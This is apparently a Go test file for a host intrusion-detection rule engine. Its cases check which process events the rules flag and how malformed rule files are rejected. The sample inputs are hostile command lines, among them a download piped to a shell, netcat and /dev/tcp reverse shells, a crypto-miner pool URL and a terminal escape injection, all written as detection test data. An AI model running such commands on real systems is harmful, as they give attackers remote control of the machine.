package host

import (
	"strings"
	"testing"
)

func TestBuiltin(t *testing.T) {
	rules := Builtin()
	for _, c := range []struct {
		name string
		p    Process
		want string // part of the rule's name; empty: no rule
	}{
		{"a web server's shell", Process{Exe: []byte("/usr/bin/dash"), Args: []byte("sh -c id"), Parent: []byte("/usr/sbin/php-fpm8.2"), UID: 33}, "has started a shell"},
		{"a shell of the web server's account", Process{Exe: []byte("/usr/bin/dash"), Args: []byte("sh -c id"), UID: 1033, User: []byte("www-data")}, "account of a server"},
		{"the same by number", Process{Exe: []byte("/usr/bin/dash"), Args: []byte("sh -c id"), UID: 33}, "account of a server"},
		{"another number", Process{Exe: []byte("/usr/bin/dash"), Args: []byte("sh -c id"), UID: 330}, ""},
		{"its timetable", Process{Exe: []byte("/usr/bin/dash"), Args: []byte("sh -c id"), UID: 33, Parent: []byte("/usr/sbin/cron")}, ""},
		{"a user's shell", Process{Exe: []byte("/usr/bin/bash"), Args: []byte("-bash"), Parent: []byte("/usr/sbin/sshd"), UID: 1000}, ""},
		{"a download that is run", Process{Exe: []byte("/usr/bin/bash"), Args: []byte("bash -c CURL -s http://203.0.113.9/x | sh"), UID: 1000}, "download"},
		{"a download that is kept", Process{Exe: []byte("/usr/bin/curl"), Args: []byte("curl -o x http://203.0.113.9/x.sh"), UID: 1000}, ""},
		{"a download into a pager", Process{Exe: []byte("/usr/bin/bash"), Args: []byte("sh -c curl -s http://192.0.2.1/a | shuf"), UID: 1000}, ""},
		{"netcat", Process{Exe: []byte("/usr/bin/nc.traditional"), Args: []byte("nc -e /bin/sh 203.0.113.9 4444"), UID: 1000}, "netcat"},
		{"netcat in earnest", Process{Exe: []byte("/usr/bin/nc.openbsd"), Args: []byte("nc -z 192.0.2.1 22"), UID: 1000}, ""},
		{"a reverse shell", Process{Exe: []byte("/usr/bin/bash"), Args: []byte("bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), UID: 0}, "reverse shell"},
		{"a miner", Process{Exe: []byte("/opt/m"), Args: []byte("m -o stratum+tcp://pool.example:3333"), UID: 0}, "miner"},
		{"a program in /tmp", Process{Exe: []byte("/tmp/.x/kworker"), Args: []byte("[kworker/0:1]"), UID: 0}, "program in a directory"},
		{"a script in /dev/shm", Process{Exe: []byte("/usr/bin/bash"), Args: []byte("bash /dev/shm/a"), UID: 0}, "script in a directory"},
		{"a program without a file", Process{Exe: []byte("/memfd:x"), Deleted: true, UID: 0}, "no name"},
		{"containers run themselves so", Process{Exe: []byte("/memfd:runc_cloned:/proc/self/exe"), Deleted: true, Parent: []byte("/usr/bin/containerd-shim-runc-v2"), UID: 0}, ""},
		{"the audit's end", Process{Killed: true, Exe: []byte("/usr/sbin/auditd"), Parent: []byte("/usr/bin/kill")}, "keeps the logs"},
		{"its end by the system", Process{Killed: true, Exe: []byte("/usr/sbin/auditd"), Parent: []byte("/usr/lib/systemd/systemd")}, ""},
		{"somebody's end", Process{Killed: true, Exe: []byte("/usr/bin/sleep")}, ""},
		{"the audit's start", Process{Exe: []byte("/usr/sbin/auditd")}, ""},
		{"nothing known", Process{}, ""},
	} {
		r, ok := rules.Match(c.p)
		if ok != (c.want != "") || !strings.Contains(r.Name, c.want) {
			t.Errorf("%s: %v, rule %q, want %q", c.name, ok, r.Name, c.want)
		}
	}
}

func TestLoadRefuses(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"", "r.yaml: want a list of rules"},
		{"name: x", "r.yaml: want a list of rules"},
		{"- {name: x, exe: [a]", "r.yaml: yaml: line 1"},
		{"- x", "r.yaml:1: want a rule"},
		{"- name: x\n  exe: ['*/a']\n  exes: ['b']", `r.yaml:3: there is no "exes"`},
		{"- name: x\n  exe: a", "r.yaml:2: exe: want a list of texts"},
		{"- name: x\n  exe: [a]\n  killed: perhaps", "r.yaml:3: killed: want true or false"},
		{"- exe: [a]", "r.yaml:1: the rule has no name"},
		{"- name: x", "asks for nothing"},
		{"- {name: x, not_parent: [a]}", "asks for nothing"},
		{"- {name: x, exe: []}", "exe: want 1 to 64"},
		{"- {name: x, exe: ['**']}", "matches everything"},
		{"- {name: x, exe: ['" + strings.Repeat("a", 200) + "']}", "longer than 128"},
		{"- {name: x, killed: true}", "whose end matters"},
		{"- {name: x, killed: true, exe: [a], args: [b]}", "neither args"},
		{"- {name: x, exe: [a]}\n- {name: x, exe: [b]}", "r.yaml:2: there are two"},
		{strings.Repeat("- {name: x, exe: [a]}\n", 300), "300 rules"},
	} {
		if rules, err := Load("r.yaml", []byte(c.text)); err == nil || rules != nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%.60q: %v, want %q", c.text, err, c.want)
		}
	}
}

func TestPatterns(t *testing.T) {
	for _, c := range []struct {
		pattern, s string
		fold, want bool
	}{
		{"a", "a", false, true}, {"a", "ab", false, false}, {"*a", "bba", false, true}, {"a*", "abb", false, true}, {"*a*b*", "xaxb", false, true},
		{"*a*b", "abab", false, true}, {"*a*b", "abac", false, false}, {"**a", "a", false, true}, {"a*", "a", false, true}, {"ab", "AB", true, true}, {"ab", "AB", false, false},
		{"*/sh", "/bin/bash", false, false}, {"", "a", false, false},
	} {
		s := []byte(c.s)
		if c.fold {
			lower(s, s)
		}
		if got := compile([]string{c.pattern}, c.fold).match(s, lettersOf(s)); got != c.want {
			t.Errorf("%q matches %q: %v", c.pattern, c.s, got)
		}
	}
}

// What is shown is bounded, and nothing that a terminal would obey.
func TestEventText(t *testing.T) {
	e := Rule{Name: "r"}.Event(Process{Exe: []byte("/tmp/\x1b[31m\xff"), Args: []byte("\x1b]0;owned\x07" + strings.Repeat("é", 2000)), Parent: []byte("/bin/\nsh"), User: []byte("www-data")})
	if strings.ContainsAny(e.Detail, "\x1b\x07\n") || len(e.Detail) > 512 || strings.ToValidUTF8(e.Detail, "") != e.Detail || e.User != "www-data" {
		t.Errorf("%q", e.Detail)
	}
}

func FuzzLoad(f *testing.F) {
	f.Add(builtin)
	f.Fuzz(func(_ *testing.T, text []byte) {
		rules, err := Load("fuzz", text)
		if err == nil {
			rules.Match(Process{Exe: []byte("/tmp/x"), Args: []byte("x y")})
		}
	})
}

func BenchmarkMatch(b *testing.B) {
	rules := Builtin()
	p := Process{Exe: []byte("/usr/bin/python3.11"), Args: []byte("python3 -m http.server --bind 127.0.0.1 8080"), Parent: []byte("/usr/bin/bash"), UID: 1000, User: []byte("alice")}
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := rules.Match(p); ok {
			b.Fatal("matched")
		}
	}
}
